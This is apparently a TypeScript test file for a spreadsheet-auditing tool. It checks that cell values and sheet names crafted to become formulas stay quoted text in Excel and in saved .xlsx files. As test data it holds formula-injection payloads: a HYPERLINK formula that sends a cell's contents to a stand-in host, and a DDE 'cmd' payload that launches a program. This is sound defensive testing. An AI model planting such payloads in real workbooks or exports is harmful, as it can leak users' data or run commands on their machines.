/** A workbook whose names, accounts and units are written to become formulas: on every sheet of ours, in Excel and in a file, they stay text. */
import { checkWorkbook, type Workbook } from '../../src/core';
import { addressOf, type Cell, type CellValue, type Sheet } from '../../src/core/workbook';
import { GENERATED_SHEETS } from '../../src/core/spreadsheet';
import { ExcelSpreadsheet } from '../../src/excel';
import { annotationsOf } from '../../src/present/annotations';
import { discrepancySheet } from '../../src/present/discrepancySheet';
import { readsAsEntry } from '../../src/present/sheetCells';
import { workingPaper } from '../../src/present/workingPaper';
import { annotateXlsx, patchXlsx, readXlsx } from '../../src/xlsx';
import { caseBytes, caseWorkbook } from '../support/cases';
import { createOffice } from '../support/office';
import { partsOf } from '../xlsx/tiny';

const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠', ' =', "'="];
const ATTACK = 'HYPERLINK("http://x.test/"&A1,"合计")';
const SHEETS: Readonly<Record<string, string>> = { 表三: '=1+1', 表四: '+表四', 表五: '-表五', 表一: '@SUM(A1)', 表六: '＝表六' };

/** Names of accounts that are wrong in their own way, so that findings quote them; a hostile unit; hostile names of sheets. */
function hostile(workbook: Workbook, start: string): Workbook {
  const attacked = (value: CellValue): CellValue => {
    if (value === '劳动关系和维权') return `${start}${ATTACK}`;
    if (value === '信息化建设') return `${start}cmd|' /C calc'!A0`;
    return typeof value === 'string' && value.startsWith('部门全称') ? `部门全称：${start}${ATTACK}` : value;
  };
  return {
    sheets: workbook.sheets.map((sheet): Sheet => ({
      ...sheet,
      name: SHEETS[sheet.name] ?? sheet.name,
      rows: sheet.rows.map((row) => row?.map((cell): Cell | undefined => cell && { ...cell, value: attacked(cell.value) })),
    })),
  };
}

/** Formulas of Gouji's own making begin in one of these ways, and what they name is a place. */
const OWN = /^=(ROUND|IFERROR|T)\(/;
const bare = (formula: string): string => formula.replace(/'(?:[^']|'')*'!/g, '').replace(/"(?:[^"]|"")*"/g, '""');

function onlyOwn(formulas: readonly (string | null | undefined)[]): void {
  const written = formulas.filter((formula): formula is string => typeof formula === 'string');
  expect(written.length).toBeGreaterThan(20);
  for (const formula of written) {
    expect(formula).toMatch(OWN);
    expect(bare(formula)).not.toMatch(/HYPERLINK|cmd|\+表|[＝＋－＠]/);
  }
}

const makers = (workbook: Workbook, result = checkWorkbook(workbook)) => ({
  discrepancies: () => discrepancySheet(result, 'zh-CN', { workbook }),
  'working-paper': () => workingPaper(result, 'zh-CN', workbook),
});

describe.each(STARTS)('texts that begin with %j', (start) => {
  const workbook = hostile(caseWorkbook('seed-000.xlsx'), start);

  test('are quoted on our sheets as what they are, and are no formula in Excel', async () => {
    const office = createOffice({ workbook });
    office.install();
    const { model } = office;
    const excel = new ExcelSpreadsheet('zh-CN');
    const read = await excel.read();
    const make = makers(read);
    for (const which of GENERATED_SHEETS) {
      const { name } = await excel.writeSheet(which, make[which]);
      const id = model.sheets().find((sheet) => sheet.name === name)?.id ?? '';
      const cells = model.read(id, model.usedRange(id, true)!).flat();
      onlyOwn(cells.map(({ formula }) => formula));
      // What was planned as text stands there as that text.
      const planned = make[which]().rows.flat();
      const texts = new Set(cells.filter(({ formula }) => formula === null).map(({ value }) => value));
      for (const cell of planned) if (cell?.type === 'text' && cell.text !== '') expect(texts).toContain(cell.text);
      expect([...texts].some((text) => typeof text === 'string' && text.includes('=1+1'))).toBe(true);
      if (which === 'discrepancies')
        expect([...texts].some((text) => typeof text === 'string' && text.includes(ATTACK.slice(0, 9)))).toBe(true);
    }
    await excel.annotate(annotationsOf(checkWorkbook(read), 'zh-CN', { workbook: read, comments: 'all' }));
    for (const { content } of model.comments()) expect(content).toMatch(/^【勾稽】/);
    expect(office.host.faults).toEqual([]);
  });
});

test.each(STARTS)('nor are they in a file, where they stay text when somebody edits the cell (%j)', (start) => {
  const bytes = caseBytes('seed-000.xlsx');
  const original = readXlsx(bytes);
  const workbook = hostile(original, start);
  const changed = patchXlsx(bytes, {
    renameSheets: Object.entries(SHEETS).map(([sheet, name]) => ({ sheet, name })),
    cells: original.sheets.flatMap((sheet, index) =>
      sheet.rows.flatMap((row, r) =>
        (row ?? []).flatMap((cell, c) => {
          const value = workbook.sheets[index]?.rows[r]?.[c]?.value ?? null;
          return cell === undefined || cell.value === value
            ? []
            : [{ sheet: sheet.name, address: addressOf({ row: r, column: c }), value }];
        }),
      ),
    ),
  });
  const read = readXlsx(changed);
  const make = makers(read);
  const written = annotateXlsx(changed, annotationsOf(checkWorkbook(read), 'zh-CN', { workbook: read }), make);
  const sheets = readXlsx(written).sheets.filter(({ generated }) => generated);
  const contents = Object.values(partsOf(written));
  const generated = contents.filter((part) => /<pageSetup [^>]*fitToHeight="0"/.test(part));
  expect(generated).toHaveLength(GENERATED_SHEETS.length);
  onlyOwn(generated.flatMap((part) => [...part.matchAll(/<f>([^<]*)<\/f>/g)].map(([, formula = '']) => `=${unescaped(formula)}`)));
  // Excel stores such a text as typed after an apostrophe.
  const styles = [...(/<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(partsOf(written)['xl/styles.xml'] ?? '')?.[1] ?? '').matchAll(/<xf [^>]*>/g)];
  const texts = generated.flatMap((part) => [...part.matchAll(/<c r="\w+" s="(\d+)" t="inlineStr"><is><t[^>]*>([^<]*)</g)]);
  const entries = texts.filter(([, , text = '']) => readsAsEntry(unescaped(text)));
  expect(entries.length).toBeGreaterThan(500);
  for (const [, style] of entries) expect(styles[Number(style)]?.[0]).toContain('quotePrefix="1"');
  expect(sheets.map(({ name }) => name)).toEqual(GENERATED_SHEETS.map((which) => make[which]().name));
});

const unescaped = (text: string): string =>
  text
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
